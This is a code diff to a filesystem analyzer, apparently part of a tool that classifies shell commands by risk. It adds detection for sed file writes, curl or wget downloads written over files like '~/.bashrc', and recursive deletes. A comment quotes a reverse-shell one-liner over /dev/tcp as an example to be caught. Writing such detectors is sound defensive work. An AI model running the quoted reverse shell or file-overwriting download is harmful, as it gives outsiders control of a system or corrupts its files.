@@ -171,6 +171,20 @@ export const fsAnalyzer: Analyzer = ({ view, ctx }) => {
       if (view.flags.some((f) => f.name === '-i' || f.name.startsWith('--in-place'))) {
         for (const t of targets.slice(1)) facts.push(target(t, ctx, 'fs.write'));
       }
+      // sed's `w FILE` (and `s///w FILE`) truncates FILE before it writes to it.
+      if (p === 'sed' && targets[0] && !targets[0].dynamic) {
+        for (const m of targets[0].value.matchAll(/(?:^|[;\n}]|\/[a-zA-Z0-9]*)\s*w\s+(\S+)/g)) facts.push(target({ ...targets[0], value: m[1] }, ctx, 'fs.write'));
+      }
+      break;
+    case 'curl': case 'wget': {
+      // The downloaded body is written over the output file (`curl -o ~/.bashrc URL`).
+      const out = view.flags.filter((f) => (f.name === '-o' || f.name === '--output' || (p === 'wget' && (f.name === '-O' || f.name === '--output-document'))) && f.value && f.value !== '-' && !HARMLESS_DEVICES.test(f.value));
+      for (const f of out) facts.push(target({ ...f.word, value: f.value! }, ctx, 'fs.write'));
+      break;
+    }
+    case 'rimraf': case 'del-cli': case 'rmrf': case 'del':
+      // npm's rm -rf (`npx rimraf dist`)
+      for (const t of targets) facts.push(target(t, ctx, 'fs.delete-recursive'));
       break;
   }
   // `bash -i >& /dev/tcp/h/4444 0>&1`: a shell whose input or output is a connection serves whoever is at the other end.
